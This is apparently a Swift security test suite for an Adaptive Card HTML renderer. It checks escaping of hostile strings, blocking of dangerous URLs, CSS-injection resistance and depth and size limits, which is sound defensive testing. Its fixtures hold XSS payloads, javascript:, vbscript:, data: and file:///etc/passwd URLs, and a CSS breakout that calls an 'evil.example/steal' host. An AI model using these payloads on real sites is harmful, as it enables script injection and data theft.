import Foundation
import JSONTree
import Testing
import TestSupport
@testable import CardRendering

/// Hostile input: markup and script in every string, dangerous URLs, CSS injection, deep
/// nesting, huge cards. The output never holds anything script-like, stays well-formed, and
/// the renderer never traps or recurses without bound.
@Suite struct SafetyTests {
    static let hostile = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "</div></div><script>x()</script>",
        "&lt;script&gt; & &amp; \u{0}\u{1}\u{202E}",
        "javascript:alert(1)",
        "${alert(1)}",
        "<style>*{display:none}</style>",
        "<!-- x --> ]]> <![CDATA[ y ]]>",
    ]

    static let badURLs = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " \u{1}javascript:alert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd",
        "jAvAsCrIpT&#58;alert(1)", "\u{0}javascript:x", "data:image/svg+xml;base64,PHN2Zz4=\"onerror=\"x",
    ]

    /// A card that puts `s` into every string property, and `u` into every URL.
    static func everything(_ s: String, url u: String) -> JSONValue {
        let sv = JSONValue.string(s)
        let uv = JSONValue.string(u)
        let action: JSONValue = ["type": "Action.OpenUrl", "title": sv, "url": uv, "tooltip": sv, "iconUrl": uv]
        return [
            "type": "AdaptiveCard", "version": "1.6", "lang": sv, "speak": sv, "fallbackText": sv,
            "backgroundImage": uv, "selectAction": action, "minHeight": sv,
            "body": [
                ["type": "TextBlock", "text": sv, "id": sv, "color": sv, "size": sv, "maxLines": sv],
                ["type": "TextBlock", "text": .string("[\(s)](\(u)) ![\(s)](\(u)) **\(s)**"), "wrap": true],
                ["type": "RichTextBlock", "inlines": [sv, ["type": "TextRun", "text": sv, "selectAction": action]]],
                ["type": "Image", "url": uv, "altText": sv, "backgroundColor": sv, "width": sv, "height": sv, "selectAction": action],
                ["type": "ImageSet", "images": [["type": "Image", "url": uv, "altText": sv]]],
                ["type": "Media", "poster": uv, "altText": sv, "sources": [["mimeType": sv, "url": uv], ["mimeType": "video/mp4", "url": uv]],
                 "captionSources": [["mimeType": "vtt", "url": uv, "label": sv]]],
                ["type": "Container", "style": sv, "backgroundImage": ["url": uv, "fillMode": sv], "selectAction": action,
                 "items": [["type": "TextBlock", "text": sv]]],
                ["type": "ColumnSet", "columns": [["type": "Column", "width": sv, "items": [["type": "TextBlock", "text": sv]]]]],
                ["type": "FactSet", "facts": [["title": sv, "value": sv]]],
                ["type": "Table", "gridStyle": sv, "columns": [["width": sv]], "rows": [["type": "TableRow", "cells": [["type": "TableCell", "items": [["type": "TextBlock", "text": sv]]]]]]],
                ["type": "Input.Text", "id": sv, "label": sv, "placeholder": sv, "value": sv, "style": sv, "inlineAction": action],
                ["type": "Input.Text", "id": "m", "label": sv, "isMultiline": true, "value": sv],
                ["type": "Input.Number", "id": sv, "label": sv, "value": sv, "min": sv],
                ["type": "Input.Date", "id": sv, "label": sv, "value": sv],
                ["type": "Input.Time", "id": sv, "label": sv, "value": sv],
                ["type": "Input.Toggle", "id": sv, "title": sv, "value": sv, "valueOn": sv],
                ["type": "Input.ChoiceSet", "id": sv, "label": sv, "value": sv, "placeholder": sv, "choices": [["title": sv, "value": sv]]],
                ["type": "Input.ChoiceSet", "id": "e", "style": "expanded", "isMultiSelect": true, "value": sv, "choices": [["title": sv, "value": sv]]],
                ["type": "ActionSet", "actions": [action, ["type": "Action.Submit", "title": sv, "data": sv],
                                                  ["type": "Action.ToggleVisibility", "title": sv, "targetElements": [sv, ["elementId": sv, "isVisible": false]]]]],
                ["type": sv, "text": sv],
                ["type": "Carousel", "pages": [["type": "CarouselPage", "items": [["type": "TextBlock", "text": sv]]]]],
            ],
            "actions": [action, ["type": "Action.ShowCard", "title": sv, "card": ["type": "AdaptiveCard", "body": [["type": "TextBlock", "text": sv]]]],
                        ["type": "Action.OpenUrlDialog", "title": sv, "url": uv], ["type": "Action.Execute", "title": sv, "mode": "secondary"]],
        ]
    }

    @Test(arguments: hostile)
    func hostileStringsAreEscapedEverywhere(_ s: String) throws {
        let card = Self.everything(s, url: "https://example.com/a.png")
        let r = CardRenderer.render(card: card, hostConfig: Fixtures.teamsLight)
        #expect(HTMLCheck.scriptProblems(r.html).isEmpty, "\(HTMLCheck.scriptProblems(r.html))")
        let root = try HTMLCheck.parse(r.html)
        // The string shows as text (the literal characters), never as markup.
        if !s.contains("\u{0}") && !s.hasPrefix("${") {
            #expect(root.textContent.contains(s.replacingOccurrences(of: "\u{202E}", with: "")) || s.contains("\u{202E}") || s.contains("&"))
        }
        for n in root.descendants {
            #expect(!["script", "style", "svg", "iframe"].contains(n.tag))
        }
    }

    @Test(arguments: badURLs)
    func dangerousURLsNeverReachThePage(_ u: String) throws {
        let card = Self.everything("x", url: u)
        let r = CardRenderer.render(card: card, hostConfig: Fixtures.teamsLight)
        let problems = HTMLCheck.scriptProblems(r.html)
        #expect(problems.isEmpty, "\(problems)")
        let root = try HTMLCheck.parse(r.html)
        for n in root.descendants {
            for (k, v) in n.attributes where ["href", "src", "poster"].contains(k) {
                #expect(v.hasPrefix("https://") || v.hasPrefix("http://") || v.hasPrefix("data:image/"), "\(k)=\(v)")
            }
            if let style = n.attr("style") {
                #expect(!style.lowercased().contains("javascript") && !style.contains("file:"), "\(style)")
            }
        }
        let unsafe = r.warnings.filter { $0.kind == .unsafeURL }
        // An SVG in a data: image URL is an image (img and CSS never run its scripts); its
        // quotes are escaped like any attribute text.
        if u.hasPrefix("data:image/") { return }
        #expect(unsafe.count >= 8)
        #expect(unsafe.contains { $0.path == "/body/3/url" })
        #expect(unsafe.contains { $0.path == "/actions/0/url" })
        #expect(unsafe.contains { $0.path == "/body/6/backgroundImage/url" })
    }

    @Test func cssValuesFromCardsCannotEscapeTheirDeclaration() throws {
        let attack = #"x.png"); background: url("https://evil.example/steal?"#
        let card: JSONValue = [
            "type": "AdaptiveCard", "version": "1.5",
            "body": [
                ["type": "Container", "backgroundImage": .string("https://example.com/" + attack + "\\\n)</style>"),
                 "minHeight": "10px;color:red", "items": []],
                ["type": "Image", "url": "https://example.com/i.png", "altText": "a", "backgroundColor": "red;background:url(x)",
                 "width": "10px;position:fixed", "height": "calc(100vh)"],
                ["type": "ColumnSet", "columns": [["type": "Column", "width": "1;position:fixed", "items": []],
                                                  ["type": "Column", "width": "50px", "items": []]]],
                ["type": "TextBlock", "text": "t", "wrap": true, "maxLines": "2;display:none"],
            ],
        ]
        let r = CardRenderer.render(card: card, hostConfig: HostConfig())
        let root = try HTMLCheck.parse(r.html)
        let styles = root.descendants.compactMap { $0.attr("style") }
        for style in styles {
            #expect(!style.contains("position"), "\(style)")
            #expect(!style.contains("color:red") && !style.contains("display:none"), "\(style)")
        }
        let bg = try #require(styles.first { $0.hasPrefix("background-image:") })
        // One CSS string, every quote and parenthesis inside it escaped.
        #expect(bg.hasPrefix("background-image:url(\"https://example.com/x.png\\22 \\29 ; background: url\\28 \\22 https://evil.example/steal?"))
        #expect(bg.hasSuffix("\")"))
        #expect(bg.dropFirst("background-image:url(\"".count).dropLast(2).allSatisfy { $0 != "\"" && $0 != "\n" })
        #expect(r.warnings.contains { $0.kind == .invalidValue && $0.path == "/body/1/backgroundColor" })
        #expect(r.warnings.contains { $0.kind == .invalidValue && $0.path == "/body/2/columns/0/width" })
        #expect(styles.contains("width:50px"))
    }

    @Test func deepNestingStopsWithAMarkerNotAStackOverflow() throws {
        var element: JSONValue = ["type": "TextBlock", "text": "bottom"]
        for i in 0..<3000 {
            switch i % 4 {
            case 0: element = ["type": "Container", "items": [element]]
            case 1: element = ["type": "ColumnSet", "columns": [["type": "Column", "items": [element]]]]
            case 2: element = ["type": "Container", "style": "emphasis", "items": [element], "fallback": ["type": "TextBlock", "text": "fb"]]
            default: element = ["type": "ActionSet", "actions": [["type": "Action.ShowCard", "title": "t", "card": ["type": "AdaptiveCard", "body": [element]]]]]
            }
        }
        let card: JSONValue = ["type": "AdaptiveCard", "version": "1.5", "body": [element]]
        let r = CardRenderer.render(card: card, hostConfig: Fixtures.teamsLight)
        #expect(r.warnings.filter { $0.kind == .tooDeep }.count == 1)
        #expect(r.html.contains("Content nested too deeply is not shown."))
        #expect(!r.html.contains("bottom"))
        #expect((try? HTMLCheck.parse(r.html)) != nil)

        // Show cards nested in show cards (no elements in between).
        var action: JSONValue = ["type": "Action.Submit", "title": "inner"]
        for _ in 0..<2000 {
            action = ["type": "Action.ShowCard", "title": "s", "card": ["type": "AdaptiveCard", "actions": [action]]]
        }
        let r2 = CardRenderer.render(card: ["type": "AdaptiveCard", "version": "1.5", "actions": [action]], hostConfig: HostConfig())
        #expect(r2.warnings.contains { $0.kind == .tooDeep })
        #expect((try? HTMLCheck.parse(r2.html)) != nil)

        // Fallbacks of fallbacks of unknown types.
        var fb: JSONValue = ["type": "TextBlock", "text": "last"]
        for i in 0..<2000 { fb = ["type": .string("Unknown\(i)"), "fallback": fb] }
        let r3 = CardRenderer.render(card: ["type": "AdaptiveCard", "version": "1.5", "body": [fb]], hostConfig: HostConfig())
        #expect((try? HTMLCheck.parse(r3.html)) != nil)
    }

    @Test func hugeCardsStopAtTheElementBudget() throws {
        let blocks = (0..<20_000).map { JSONValue.object(["type": "TextBlock", "text": .string("Item \($0) *emphasis*")]) }
        let card: JSONValue = ["type": "AdaptiveCard", "version": "1.5", "body": .array(blocks)]
        let r = CardRenderer.render(card: card, hostConfig: Fixtures.teamsLight)
        #expect(r.warnings.filter { $0.kind == .tooLarge }.count == 1)
        #expect(r.html.contains("Item 4999"))
        #expect(!r.html.contains("Item 5000<"))
        #expect((try? HTMLCheck.parse(r.html)) != nil)

        // Text functions and markup that never close stay linear.
        let openers = String(repeating: "{{DATE(2017-02-14T06:08:39Z", count: 40_000) + String(repeating: "**[", count: 40_000)
        let clock = ContinuousClock()
        let elapsed = clock.measure {
            _ = CardRenderer.render(card: ["type": "AdaptiveCard", "version": "1.5", "body": [["type": "TextBlock", "text": .string(openers)]]],
                                    hostConfig: Fixtures.teamsLight)
        }
        #expect(elapsed < .seconds(5))

        // One very long string and a very wide column set.
        let long = String(repeating: "<b>&\"x ", count: 200_000)
        let columns = (0..<3000).map { JSONValue.object(["type": "Column", "width": .number(Double($0 % 5 + 1)), "items": []]) }
        let big: JSONValue = ["type": "AdaptiveCard", "version": "1.5", "body": [
            ["type": "TextBlock", "text": .string(long), "wrap": true], ["type": "ColumnSet", "columns": .array(columns)]]]
        let r2 = CardRenderer.render(card: big, hostConfig: Fixtures.teamsLight)
        #expect(r2.html.utf8.count > long.utf8.count)
        #expect(!r2.html.contains("<b>"))
    }

    @Test func oddShapesNeverTrap() {
        let odd: [JSONValue] = [
            .null, 1, "card", [], ["type": "AdaptiveCard"], ["type": "AdaptiveCard", "body": "text", "actions": 5],
            ["type": "AdaptiveCard", "version": 1.5, "body": [nil, 1, "x", [], ["type": nil], ["type": 7]]],
            ["type": "AdaptiveCard", "body": [["type": "ColumnSet", "columns": [1, nil, ["type": "Column", "items": "x"]]]]],
            ["type": "AdaptiveCard", "body": [["type": "Table", "rows": [1, ["cells": 2], ["cells": [nil, ["items": [1]]]]]]]],
            ["type": "AdaptiveCard", "body": [["type": "FactSet", "facts": [1, [:], ["title": 2]]], ["type": "ImageSet", "images": [1, [:]]]]],
            ["type": "AdaptiveCard", "body": [["type": "Input.ChoiceSet", "choices": [1, ["title": [], "value": [1]]], "value": 3]]],
            ["type": "AdaptiveCard", "body": [["type": "RichTextBlock", "inlines": [1, nil, ["type": "TextRun"], ["type": "Other"]]]]],
            ["type": "AdaptiveCard", "actions": [["type": "Action.ShowCard"], ["type": "Action.ToggleVisibility", "targetElements": 3], ["type": "Action.OpenUrl"]]],
            ["type": "AdaptiveCard", "body": [["type": "Media", "sources": [1, ["url": 2]]], ["type": "Carousel", "pages": [1]]]],
            ["type": "TextBlock", "text": "an element, not a card"],
        ]
        for card in odd {
            let r = CardRenderer.render(card: card, hostConfig: Fixtures.teamsLight)
            #expect(r.html.hasPrefix("<div class=\"ac-adaptiveCard ac-root"))
            #expect((try? HTMLCheck.parse(r.html)) != nil, "\(card)")
            #expect(HTMLCheck.scriptProblems(r.html).isEmpty)
        }
    }

    @Test(.needsShared) func renderingIsDeterministicAndThreadSafe() async {
        let cards = (Fixtures.samples + Fixtures.scenarios).map(\.1)
        let first = cards.map { CardRenderer.render(card: $0, hostConfig: Fixtures.teamsLight) }
        let second = cards.map { CardRenderer.render(card: $0, hostConfig: Fixtures.teamsLight) }
        #expect(first == second)
        let parallel = await withTaskGroup(of: (Int, RenderedCard).self) { group in
            for (i, card) in cards.enumerated() {
                group.addTask { (i, CardRenderer.render(card: card, hostConfig: Fixtures.teamsLight)) }
            }
            var out = [RenderedCard?](repeating: nil, count: cards.count)
            for await (i, r) in group { out[i] = r }
            return out.compactMap { $0 }
        }
        #expect(parallel == first)
        #expect(CardStylesheet.base == CardStylesheet.base)
        #expect(CardStylesheet.css(for: Fixtures.teamsDark, scope: ".d") == CardStylesheet.css(for: Fixtures.teamsDark, scope: ".d"))
    }

    @Test func stylesheetsHoldNothingThatCouldEndAStyleElement() {
        var css = CardStylesheet.base
        for name in Fixtures.themeNames { css += CardStylesheet.css(for: Fixtures.theme(name), scope: ".ac-theme-" + name) }
        #expect(!css.contains("<"))
        #expect(!css.lowercased().contains("javascript"))
        #expect(!css.contains("@import"))
    }
}
